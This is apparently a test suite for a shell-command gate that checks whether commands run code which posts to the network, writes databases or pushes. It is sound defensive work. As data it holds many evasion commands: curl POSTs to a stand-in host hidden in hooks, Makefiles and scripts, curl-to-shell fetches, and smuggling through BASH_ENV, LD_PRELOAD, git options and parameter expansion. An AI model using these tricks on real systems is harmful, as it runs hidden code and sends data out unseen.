"""Where a command takes its code from: what can be read is judged, and what cannot is never called harmless."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest
from everyday import DAY, PROJECT, READ, UNREAD
from hypothesis import example, given, settings
from hypothesis import strategies as st

from takeback import gate
from takeback.config.policy import Policy
from takeback.gate.bash.judge import Judged

POST = "curl -X POST https://x.example"
PYTHON = "import requests\nrequests.post('https://x.example')\n"
NODE = "const h = require('node:https')\nh.request({host: 'x.example', method: 'POST'}).end()\n"
FILES = {
    "f.sh": f"{POST}\n",
    "f.py": PYTHON,
    "f.js": NODE,
    "f.sed": "1e curl -X POST https://x.example\n",
    "f.awk": 'BEGIN { system("curl -X POST https://x.example") }\n',
    "f.rb": "require 'net/http'\nNet::HTTP.post(URI('https://x.example'), '1')\n",
    "prog": f"#!/usr/bin/env -S python3 -u\n{PYTHON}",
    "odd": "#!./interpreter\nsomething\n",
    "bin/ls": f"#!/bin/sh\n{POST}\n",
    "scripts/a.sh": f"{POST}\n",
    "scripts/b.sh": "ls\n",
    "quiet/a.sh": "ls\n",
    "quiet/b.sh": "wc -l *\n",
    "hooks/pre-commit": f"#!/bin/sh\n{POST}\n",
    "parts/10-post": f"#!/bin/sh\n{POST}\n",
    "pkg/__main__.py": PYTHON,
    "src/inner/__main__.py": PYTHON,
    "web/index.js": NODE,
    "other.mk": f"x:\n\t{POST}\n",
    "shell.mk": "SHELL = ./prog\nx:\n\tls\n",
    "own.mk": f"release:\n\t{POST}\npy: SHELL := /usr/bin/python3\npy:\n\timport requests; requests.post('https://x')\n"
    f"site: WHAT = {POST}\nsite: made\nquiet: WHAT = ls\nloud: WHAT = {POST}\nmade quiet loud:\n\t$(WHAT)\n",
    "dry.mk": f"x:\n\tls\ny:\n\t+{POST}\nz:\n\techo $(shell {POST})\nquiet:\n\t{POST}\n",
    "prefix.mk": f".RECIPEPREFIX = >\nx:\n> {POST}\n",
    "path.mk": "export PATH := ../bin:$(PATH)\nx:\n\tls\n",
    "including.mk": "include ../far.mk\n-include missing.mk\nx:\n\tls\n",
    "plain.mk": "SHELL := /usr/bin/env bash\nx:\n\tls\n",
    "justfile": "host := 'x.example'\nalias d := deploy\n\ntest:\n    ls\n\ndeploy to='a': test\n    @curl -X POST https://{{host}}\n"
    "py:\n    #!/usr/bin/env python3\n    import requests\n    if True:\n        requests.post('https://x.example')\n",
    "Taskfile.yml": f"version: '3'\n\ntasks:\n  test:\n    cmds:\n      - ls\n  deploy:\n    deps: [test]\n    cmds:\n      - {POST}\n"
    "  all:\n    cmds:\n      - task: deploy\n",
    "package.json": '{"scripts": {"deploy": "curl -X POST https://x.example", "test": "ls"}}',
    "deno.json": '{"tasks": {"deploy": "curl -X POST https://x.example", "ship": {"command": "git push"}}}',
    "drop.sql": "SELECT 1;\nDROP TABLE users;\n",
    "read.sql": "SELECT 1;\n",
    "names": "f.sh\nscripts/b.sh\n",
    "quiet.txt": "quiet/a.sh\nquiet/b.sh\n",
    ".git/config": '[core]\n\tbare = false\n[alias]\n\tship = "!bash f.sh"\n\tsave = commit -m x\n\tup = push origin\n',
}  # fmt: skip


def _made(root: Path, files: dict[str, str]) -> Path:
    for name, text in files.items():
        file = root / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text)
        file.chmod(0o755)
    return root


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _made(tmp_path_factory.mktemp("shop"), FILES)


@pytest.fixture(scope="module")
def ordinary(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _made(tmp_path_factory.mktemp("ordinary"), PROJECT)


def asked(found: Judged) -> list[str]:
    policy = Policy()
    return [risk.kind for risk in found.risks if risk.refuse or policy.call(risk.kind).decision != "allow"]


def look(command: str, root: Path) -> Judged:
    return gate.look(command, str(root), str(root), "/home/ada")


# -- what is read is judged ----------------------------------------------------------

JUDGED = [
    "f() { ! { bash f.sh; } | cat; }; f",
    "true | { f() { ! { bash f.sh; }; }; f; }",
    # substitutions that look like plain text
    "x='$(bash f.sh)'; echo ${x@P}",
    'echo "v${x:-`bash f.sh`}"', 'y="${x:=`bash f.sh`}"', "echo ${x:+`bash f.sh`}", "echo ${x#$(bash f.sh)}",
    "x=1; echo ${x%`bash f.sh`}", "echo ${x,,$(bash f.sh)}", "a[$(bash f.sh)]=1", "declare a[$(bash f.sh)]=1",
    'unset "a[$(bash f.sh)]"', "unset 'a[$(bash f.sh)]'", "test -v 'a[$(bash f.sh)]'", "[[ -v 'a[$(bash f.sh)]' ]]",
    "printf -v 'a[$(bash f.sh)]' x", "read 'a[$(bash f.sh)]' <<< x", "x='a[$(bash f.sh)]'; echo $((x))",
    "mapfile -C 'bash f.sh' -c 1 < names", "readarray -C'bash f.sh' lines < names",
    # what git is told to start on the other side, which may be this one
    "git ls-remote --upload-pack='bash f.sh;:' .", "git clone -u 'bash f.sh;:' . y", "git fetch --upload-pack 'bash f.sh' .",
    "git archive --remote=. --exec='bash f.sh' HEAD", "git -c remote.o.uploadpack='bash f.sh' fetch o",
    "git config remote.o.uploadpack 'bash f.sh' && git fetch o",
    "make -n -f dry.mk y", "make -q -f dry.mk y", "make -n -f dry.mk z", "make --touch -f dry.mk z",
    # code in plain sight
    "node -e \"const h = require('http'); const r = h.request('http://x', {method: 'POST'}); r.end()\"",
    "node -e \"require('https').request('https://x', {method: 'POST'}).end()\"",
    "node -e \"const o = {host: 'x', method: 'PUT'}; require('node:https').request(o).end()\"",
    "node -e \"const o = {host: 'x'}; o.method = 'PUT'; require('https').request(o, r => 0).end()\"",
    "node -e \"import('axios').then(a => a.default.post('https://x'))\"",
    "node -e \"require('axios')({url: 'https://x', method: 'post'})\"",
    "node -e \"const a = require('axios'); a.post('https://x')\"",
    "node -e \"const {post: send} = require('axios'); send('https://x')\"",
    "node -e \"const c = require('axios').create(); c.post('https://x')\"",
    "node -e \"const got = require('got'); got('https://x', {method: 'POST'})\"",
    "node -e \"const got = require('got'); got('https://x', {json: {a: 1}})\"",
    "node -e \"const {request} = require('undici'); request('https://x', {method: 'POST'})\"",
    "node -e \"const u = require('undici'); u.fetch('https://x', {method: 'POST'})\"",
    "node -e \"const f = require('node-fetch'); f('https://x', {method: m})\"",
    "node --input-type=module -e \"import * as h from 'https'; h.request({method: 'DELETE'}).end()\"",
    "node -e \"require('superagent')('POST', 'https://x').end()\"",
    "node -e \"require('./f.js')\"",
    "python3 -c \"exec(open('f.py').read())\"",
    "python3 -c \"import runpy; runpy.run_path('f.py')\"",
    "ruby -e 'load \"./f.rb\"'",
    # files, and what is fed
    "python3 < f.py", "cat f.py | python3", "cat f.py | python3 -", "python3 - < f.py", "python3 <(cat f.py)",
    "python3 -c \"$(cat f.py)\"", "python3 -c \"$(<f.py)\"", "node < f.js", "cat f.js | node", "cat f.js | node -",
    "bash < f.sh", "cat f.sh | sh", "cat f.sh | bash -s -- a", "sh -s < f.sh", "eval \"$(cat f.sh)\"",
    "eval \"$(<f.sh)\"", "bash <(cat f.sh)", "cat names f.sh | bash", "node f", "node web", "python3 pkg",
    "python3 -m pkg", "cd src && python3 -m inner", "PYTHONPATH=src python3 -m inner", "python3 -I -X dev f.py",
    "./prog", "bash -c 'bash $0' f.sh", "bash -c 'for s; do bash $s; done' _ f.sh", "sed -f f.sed x", "awk -f f.awk x",
    "node -r ./f.js -e 1", "node --import ./f.js x.js", "at -f f.sh now", "ruby f.rb",
    "cat f.sh | while read line; do eval \"$line\"; done", "while read l; do bash $l; done < names",
    # patterns, find, xargs
    "for s in scripts/*.sh; do bash $s; done", "for s in $(ls scripts); do bash scripts/$s; done",
    "ls scripts/*.sh | xargs -n1 bash", "ls scripts | while read s; do sh scripts/$s; done", "bash \"$(ls f.sh)\"",
    "for s in scripts/*; do . $s; done", "bash scripts/*.sh",
    "for s in scripts/?.sh; do ./$s; done", "run-parts parts", "find . -name '*.sh' -exec bash {} \\;",
    "find scripts -type f -exec {} \\;", "find . -name '*.sh' -exec sh -c 'bash \"$1\"' _ {} \\;",
    "find . -path '*scripts*' -name 'a*' -execdir bash {} +", "echo f.sh | xargs bash", "xargs bash < names",
    "xargs -n1 bash < names", "xargs -I{} bash {} < names", "xargs -a names -n 1 bash", "parallel bash ::: f.sh",
    "parallel bash {} ::: quiet/a.sh f.sh", "parallel bash < names", "tr '\\n' '\\0' < names | cat names | xargs sh",
    "xargs -0 sh -c < f.sh", "find . -name '*.js' -exec node {} +",
    # written or moved, and then run
    "mv f.sh b; bash b", "cp f.sh b && bash b", "cp f.sh /tmp/b && bash /tmp/b", "install -m755 f.sh b && ./b",
    "ln -s f.sh b; bash b", "cp f.sh quiet/ && bash quiet/f.sh", "cp -r scripts s2 && bash s2/a.sh",
    "mv scripts s2 && for s in s2/a.sh; do bash $s; done", "cat f.sh > b; bash b", "cat f.sh | tee b; bash b",
    "(cp f.sh b); bash b", "cp f.py b.py | cat; python3 b.py", "cat > x.py <<EOF\n" + PYTHON + "EOF\npython3 x.py",
    "echo ls >> scripts/a.sh; bash scripts/a.sh", "echo 'curl -X POST https://x' | tee -a quiet/a.sh; bash quiet/a.sh",
    "git mv f.sh g.sh && bash g.sh", "printf 'x:\\n\\tcurl -X POST https://x\\n' > Makefile; make x",
    "printf '#!/bin/sh\\ncurl -X POST https://x\\n' > run; chmod +x run; ./run",
    "if true; then cp f.sh b; fi; bash b", "cp f.sh a; cp a b; mv b c; bash c",
    "mkdir d && mv f.sh d && bash d/f.sh", "rsync -a scripts s2 && bash s2/scripts/a.sh",
    "rsync -a scripts/ s2/ && bash s2/a.sh", "cp -t /tmp f.sh; bash /tmp/f.sh", "cp -r . /tmp/copy && bash /tmp/copy/f.sh",
    # what a choice or a loop leaves behind
    "if a; then f() { bash f.sh; }; else f() { ls; }; fi; f", "if a; then f() { ls; }; else f() { bash f.sh; }; fi; f",
    "x=quiet/a.sh; while true; do bash $x; x=f.sh; done", "x=quiet/a.sh; for ((;;)); do bash $x; x=f.sh; done",
    "x=quiet/a.sh; y=$x; until false; do bash $x; x=$y; y=f.sh; done; bash f.sh",
    # runners
    "bun run deploy", "bun deploy", "bun f.js", "bun run f.js", "node --run deploy", "deno task deploy",
    "deno run -A f.js", "deno eval \"fetch('https://x', {method: 'POST'})\"", "pnpm deploy", "yarn run deploy",
    "make -f other.mk x", "make --file=other.mk", "make -f shell.mk x", "make -f plain.mk x SHELL=./prog",
    "make -f own.mk release", "make -f own.mk py", "make -f own.mk loud", "make -f own.mk site", "make -f own.mk quiet loud",
    "just deploy", "just d", "just py", "task deploy", "task all", "just -f justfile deploy b",
    # what decides from outside the words
    "BASH_ENV=f.sh bash -c ls", "BASH_ENV=./f.sh bash quiet/a.sh", "ENV=f.sh sh -i -c ls", "env BASH_ENV=f.sh bash -c ls",
    "export BASH_ENV=f.sh; bash -c ls", "BASH_ENV=f.sh; bash -c ls", "bash --rcfile f.sh -i -c ls",
    "bash --init-file=f.sh -i", f"PROMPT_COMMAND='{POST}' bash -i", "PYTHONSTARTUP=f.py python3 -i",
    "NODE_OPTIONS='--require ./f.js' node -e 1", "NODE_OPTIONS=--import=./f.js npm test", "RUBYOPT=-r./f ruby -e 1",
    "GIT_SSH_COMMAND='bash f.sh' git fetch", "GIT_EXTERNAL_DIFF=./prog git diff", "PAGER='bash f.sh' man ls",
    "export GIT_EXTERNAL_DIFF=./prog; git diff", "PATH=$PWD/bin:$PATH ls", "export PATH=bin:$PATH; ls",
    "git -c alias.x='!bash f.sh' x", "git -c core.fsmonitor='bash f.sh' status", "git ship", "git ship --now",
    "git -c core.hooksPath=hooks commit -m x", "git config core.hooksPath hooks; git commit -m x",
    "git config alias.x '!bash f.sh' && git x", "git -c filter.x.clean='bash f.sh' add .", "git grep -O'bash f.sh' x",
    "git -c gpg.program=./prog commit -S", "git fetch 'ext::sh -c bash% f.sh'", "git -c diff.x.textconv='bash f.sh' diff",
    "git config core.sshCommand 'bash f.sh'; git fetch", "git -c core.hooksPath=hooks hook run pre-commit",
    "tar -I 'bash f.sh' -cf x .", "tar cf x --to-command='bash f.sh' .", "rsync -e 'bash f.sh' a b", "less +'!bash f.sh' x",
    "PS4='$(bash f.sh)' bash -x quiet/a.sh", "hash -p ./f.sh ls; ls", "python3 -m pdb f.py", "coverage run f.py",
    "nodemon --exec 'bash f.sh'", "npx concurrently 'bash f.sh' ls", "node -e \"require('child_process').fork('./f.js')\"", "git -c core.hooksPath=hooks save",
    "cp f.sh .git/hooks/pre-commit && git commit -m x", "echo 'bash f.sh' > .git/hooks/post-checkout; git switch x",
]  # fmt: skip


@pytest.mark.parametrize("command", JUDGED)
def test_what_it_runs_is_read_and_asked_for(command: str, shop: Path):
    found = look(command, shop)
    assert set(asked(found)) & {"http"}, found


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("psql -f drop.sql", "database"),
        ("psql shop < drop.sql", "database"),
        ("psql --file=drop.sql", "database"),
        ("psql -fdrop.sql", "database"),
        ("psql -v ON_ERROR_STOP=1 -qf drop.sql", "database"),
        ("psql -ddb -c'drop table x'", "database"),
        ("psql -c 'INSERT INTO orders VALUES (1)'", "database"),
        ("psql -c 'grant all on x to y'", "database"),
        ("psql -c 'select 1; CALL wipe()'", "database"),
        ("psql -c \"COPY x TO PROGRAM 'git push'\"", "database"),
        ("mysql -uroot -psecret --execute='drop table x'", "database"),
        ("mysql --init-command='drop table x' -e 'select 1'", "database"),
        ("sqlite3 /var/lib/app.db 'insert into x values (1)'", "database"),
        ("deno task ship", "push"),
        ("git up", "push"),
        ("git -c alias.p='push -f' p", "push"),
    ],
)
def test_what_stands_behind_a_name_is_judged_by_its_own_kind(command: str, kind: str, shop: Path):
    assert kind in asked(look(command, shop)), command


# -- what is not decided is asked for --------------------------------------------------

UNDECIDED = [
    "bash $X", "bash \"$1\"", "python3 $X", "node $X", "python3 -m $X", ". $X", "$X", "ls ../scripts | xargs -n1 bash",
    "for s in $(ls ..); do bash scripts/$s; done", "find . -name '*.sh' | xargs bash", "xargs -a other bash",
    "x=a; y=b; z=c; while true; do bash quiet/$x.sh; x=$y; y=$z; z=d; done",
    "curl -o x https://x.example && sh x", "curl -so x https://x.example; chmod +x x; ./x",
    "curl -O https://x.example/x.sh; bash x.sh", "wget https://x.example/x.sh?a=b; bash x.sh",
    "wget -O x https://x.example; python3 x", "git clone https://x.example/r && bash r/x.sh",
    "git clone https://x.example/r.git && cd r && ./x.sh", "tar xf a.tar -C a && bash a/x.sh",
    "base64 -d x.b64 > x.sh; bash x.sh", "python3 gen.py > made.py; python3 made.py", "head -5 f.sh | bash",
    "sed 's/a/b/' f.sh > b; bash b", "curl -s https://x.example | python3", "curl -s https://x.example | node -",
    "curl -s https://x.example | tee i.sh; sh i.sh", "curl -o Makefile https://x.example; make",
    "if a; then cp f.sh b; else cp quiet/a.sh b; fi; bash b", "python3 -c \"$X\"", "bash ../*.sh", "run-parts ../parts",
    "fd -e sh -x bash", "fd -e sh -X bash {}", "sort -o b f.sh; bash b", "sed -n 'w b' f.sh; bash b", "xxd -r x b; sh b",
    "gunzip x.sh.gz; bash x.sh", "unzip x.zip; bash x.sh", "scp host:x.sh . && bash x.sh", "tar xf a.tar; bash x.sh",
    "cat f.sh | sed p | tee >(bash)", "dd if=f.sh of=b; bash b", "parallel bash scripts/{}", "git -c core.hooksPath=$X commit -m x",
]  # fmt: skip


@pytest.mark.parametrize("command", UNDECIDED)
def test_what_only_the_running_shell_can_decide_is_asked_for(command: str, shop: Path):
    found = look(command, shop)
    assert "unknown" in asked(found), found


# -- what is not read is told, and not asked for ----------------------------------------

TOLD = [
    ("LD_PRELOAD=./x.so ls", "LD_PRELOAD"),
    ("export LD_PRELOAD=/opt/x.so; ls", "LD_PRELOAD"),
    ("PERL5OPT=-Mx perl -e 1", "PERL5OPT"),
    ("JAVA_TOOL_OPTIONS=-javaagent:x.jar java -jar a.jar", "JAVA_TOOL_OPTIONS"),
    ("bash ../elsewhere.sh", "elsewhere.sh"),
    ("bash < ../elsewhere.sh || true", ""),
    ("source /opt/setup.sh", "/opt/setup.sh"),
    (". ~/.nvm/nvm.sh && ls", "nvm.sh"),
    (". \"$NVM_DIR/nvm.sh\" && ls", "nvm.sh"),
    ("sed -i s/a/b/ quiet/a.sh && bash quiet/a.sh", "quiet/a.sh as it is by then"),
    ("git pull && bash quiet/a.sh", "quiet/a.sh as it is by then"),
    ("git checkout main && make -f plain.mk x", "plain.mk as it is by then"),
    ("patch -p1 < x.patch && bash quiet/a.sh", "quiet/a.sh as it is by then"),
    ("tar xf a.tar && bash quiet/a.sh", "quiet/a.sh as it is by then"),
    ("git -c include.path=./x status", "include.path"),
    ("chroot . bash f.sh", "f.sh"),
    ("test -d src || cd quiet; bash a.sh", "wherever the shell is by then"),
    ("if test -d src; then cd quiet; fi; bash a.sh", "wherever the shell is by then"),
    ("test -d src && cd quiet; bash a.sh", "wherever the shell is by then"),
    ("make -f including.mk x", "../far.mk"),
    ("psql -f far.sql", "far.sql"),
    ("pg_dump x | psql y", "what psql is fed"),
    *(
        (command, "what")
        for command in (
            'psql -c "$SQL"', 'psql "$URL" -Atc "$SQL"', 'mysql -e "$SQL"', 'mongosh --eval "$X"', "redis-cli $X",
            "redis-cli FROBNICATE x", 'sqlite3 app.db "$SQL"', "psql -c '\\i far.sql'", "mysql -e 'source far.sql'",
            "mysql -e '\\. far.sql'", "sqlite3 app.db '.read far.sql'", "sqlite3 app.db '.open /opt/x.db' 'drop table x'",
            "sqlite3 app.db \"ATTACH '/opt/x.db' AS o; DROP TABLE o.x\"", "psql -c 'select wipe()'",
            "psql -c 'select pg_terminate_backend(1)'", "echo 'select :x' | psql -v x='1; frob()'",
            "mongosh --eval 'db[\"drop\" + \"Database\"]()'", "mysql -e '/*! frob */ select 1'",
        )
    ),
    ("sqlite3 -init far.sql app.db .quit", "far.sql"),
    ("make -nf dry.mk z", "make"),
    ("make -f prefix.mk x", "RECIPEPREFIX"),
    ("make -f path.mk x", "PATH"),
    ("PATH=/opt/evil:$PATH ls", "/opt/evil"),
    ("export PATH=~/bin:$PATH && ls", "/home/ada/bin"),
    ("env PATH=/opt/evil:$PATH ls", "/opt/evil"),
    ("kubectl exec p -- rm -rf /data", "kubectl"),
    ("kubectl cp x p:/x", "kubectl"),
    ("kubectl attach p", "kubectl"),
    ("kubectl debug node/x --image=b", "kubectl"),
    ("gh extension exec x", "gh"),
    ("gh alias set p 'pr merge'", "gh"),
    ("gh p", "gh"),
    ("gh api graphql -F query=@f", "graphql"),
    ("echo x > $FOO/takeback/config.toml", "takeback/config.toml"),
    ("cp x $FOO/takeback/config.toml", "takeback/config.toml"),
    ("echo x | tee $FOO/takeback/config.toml", "takeback/config.toml"),
    ("cd $X; cd ..; echo x > a", "where a lies"),
    ("mongosh shop far.js", "far.js"),
    ("redis-cli --eval far.lua", "--eval"),
    ("mysql --defaults-file=far.cnf -e 'select 1'", "--defaults-file"),
    ("PSQLRC=far.sql psql -c 'select 1'", "PSQLRC"),
    ("LD_LIBRARY_PATH=/opt/lib ls", "LD_LIBRARY_PATH"),
    ("git frobnicate", "git frobnicate"),
    ("./odd", "odd"),
    ("/opt/tools/ls -l", "/opt/tools/ls"),
    ("bash nothing.sh", "nothing.sh"),
    ("PATH=$X/bin:$PATH ls", "PATH"),
    ("make -f ../x.mk all", "make"),
    ("python3 script.py", "python3"),
]  # fmt: skip


@pytest.mark.parametrize(("command", "named"), TOLD)
def test_what_is_not_read_is_named(command: str, named: str, shop: Path):
    found = look(command, shop)
    if not named:
        assert asked(found) == ["unknown"]
        return
    assert asked(found) == [] and any(named in each for each in found.unknown), found
    assert not any("\0" in each for each in found.unknown)


@pytest.mark.parametrize(
    "command",
    [
        "make -n -f dry.mk quiet",
        "make --version",
        "cd src && echo x > $OLDPWD/a && cd - && echo x > b",
        "PATH=/usr/local/bin:$PATH ls",
        "a[0]=1; echo ${a[0]} ${x:-$(date)} ${y#b}",
        "kubectl get pods",
        "kubectl apply --dry-run=client -f x.yaml",
        "gh pr list",
        "gh api graphql -f query='{ viewer { login } }'",
        "psql -U me -d shop -Atc 'select count(*) from orders where id in (1, 2)'",
        "psql -X -c '\\dt' -c '\\d orders'",
        "psql -c 'EXPLAIN DELETE FROM users'",
        "psql -c 'copy (select * from users) to stdout with (format csv)'",
        "mysql -uroot -psecret -N -e 'SHOW TABLES; select * from x\\G' shop",
        "sqlite3 -header -column app.db '.tables' 'select 1; delete from x'",
        "redis-cli -h localhost -n 2 HGETALL key",
        "mongosh shop --quiet --eval 'db.users.find({a: 1}).limit(5).toArray()'",
    ],
)
def test_what_only_reads_is_known(command: str, shop: Path):
    found = look(command, shop)
    assert asked(found) == [] and found.unknown == (), found


# -- an ordinary day ---------------------------------------------------------------------


def test_the_day_is_long_enough():
    assert len({command for command, _ in DAY}) >= 60


@pytest.mark.parametrize(("command", "answer"), DAY)
def test_an_ordinary_day_is_answered_as_ever(command: str, answer: str, ordinary: Path):
    found = look(command, ordinary)
    kinds = asked(found)
    assert (kinds[0] if kinds else UNREAD if found.unknown else READ) == answer, found


QUIET = [
    "mkdir -p quiet && cd quiet && bash a.sh", "cd quiet; bash a.sh", "(cd quiet && bash a.sh)",
    "for s in quiet/*.sh; do bash $s; done", "find quiet -name '*.sh' -exec bash {} \\;", "cat quiet/a.sh | bash",
    "xargs -n1 bash < quiet.txt", "cp quiet/a.sh b && bash b", "bash quiet/*.sh", "run-parts quiet",
    "make -f own.mk quiet", "make -f plain.mk x", "BASH_ENV=quiet/a.sh bash -c ls", "just test", "task test", "ENV=production bash -c ls",
    "cat > b.sh <<'EOF'\nls\nEOF\nbash b.sh", "mv quiet q2 && bash q2/a.sh", "git -c core.hooksPath=quiet commit -m x",
    "just --list", "git -c core.hooksPath=hooks commit --no-verify -m x", "python3 --version", "node --check f.js",
    "bash -n f.sh", "find . -name '*.sh' -exec bash -n {} \\;", "cat f.sh | bash -n", "cat f.sh", "cp f.sh g.sh",
    "git -c user.name=x -c commit.gpgsign=false commit --no-verify -m x", "git commit -c HEAD --no-verify", "tar xzf a.tgz",
    "rsync -e ssh -a a/ b/", "PS1='\\w $ ' bash -c ls", "deno fmt f.js", "psql -f read.sql", "psql < read.sql",
    "sqlite3 app.db < drop.sql", "bash < /dev/null", "echo bash f.sh", "grep POST f.sh | wc -l",
]  # fmt: skip


@pytest.mark.parametrize("command", QUIET)
def test_what_only_looks_like_it_is_not_asked_for(command: str, shop: Path):
    found = look(command, shop)
    assert asked(found) == [], found


# -- whatever is wrapped around it -------------------------------------------------------

SCRIPTS = [
    "bash f.sh", "python3 f.py", "node f.js", "./prog", "cat f.sh | bash", "python3 < f.py", "cat f.js | node", ". ./f.sh",
    "echo f.sh | xargs sh", "xargs -n1 bash < names", "find . -name 'f.sh' -exec sh {} \\;",
    "for s in scripts/*.sh; do bash $s; done", "cp f.sh b.sh; sh b.sh", "mv f.py m.py && python3 m.py",
    "cat > h.sh <<'END'\nsh f.sh\nEND\nsh h.sh", "BASH_ENV=f.sh bash -c ls", "env BASH_ENV=f.sh bash -c true",
    "make -f other.mk x", "npm run deploy", "python3 pkg", "GIT_EXTERNAL_DIFF=./prog git diff", "run-parts parts",
]  # fmt: skip


def _wrapped(command: str, how: str, depth: int) -> str:
    by_text = {
        "pipe": "{} | cat", "in": "true | {{ {}; }}", "loop": "for i in 1 2; do {}; done",
        "while": "while true; do {}; break; done", "subshell": "( {} )", "group": "{{ {}; }}", "and": "true && {{ {}; }}",
        "or": "false || {{ {}; }}", "if": "if true; then {}; else ls; fi", "substitution": "echo \"$( {} )\"",
        "function": f"f{depth}() {{{{ {{}}; }}}}; f{depth}", "background": "{{ {}; }} &", "negated": "! {{ {}; }}",
        "case": "case a in a) {} ;; esac",
    }  # fmt: skip
    by_word = {
        "bash": "bash -c {}", "env": "env A=b bash -c {}", "eval": "eval {}", "xargs": "echo x | xargs sh -c {}",
        "find": "find . -maxdepth 0 -exec sh -c {} \\;", "timeout": "timeout 5 sh -c {}", "fed": "printf %s {} | bash",
        "string": "bash <<< {}", "nice": "nice nohup bash -c {}", "python": "python3 -c {}",
    }  # fmt: skip
    if "<<" in command and how in by_text:
        command = f"bash -c {shlex.quote(command)}"  # the end of a document stands alone on its line
    if how == "python":
        return by_word[how].format(shlex.quote(f"import os; os.system({command!r})"))
    if how in by_word:
        return by_word[how].format(shlex.quote(command))
    if how in by_text:
        return by_text[how].format(command.rstrip(" &") if command.rstrip().endswith("&") else command)
    if how == "document":
        return f"bash <<'E{depth}'\n{command}\nE{depth}"
    return f"cat > w{depth}.sh <<'W{depth}'\n{command}\nW{depth}\ncp w{depth}.sh v{depth}.sh\nbash v{depth}.sh"


_HOWS = ["pipe", "in", "loop", "while", "subshell", "group", "and", "or", "if", "substitution", "function", "background",
         "negated", "case", "bash", "env", "eval", "xargs", "find", "timeout", "fed", "string", "nice", "python",
         "document", "written"]  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.sampled_from(SCRIPTS), st.lists(st.sampled_from(_HOWS), max_size=5))
@example("bash f.sh", ["written", "document", "loop"])
@example("cp f.sh b.sh; sh b.sh", ["pipe", "written", "xargs"])
def test_no_wrapping_makes_a_script_harmless(shop: Path, script: str, hows: list[str]):
    command = script
    for depth, how in enumerate(hows):
        if how == "find" and "{}" in command:
            continue  # find would put the path there
        command = _wrapped(command, how, depth)
    found = look(command, shop)
    assert set(asked(found)) & {"http", "unknown"}, (command, found)
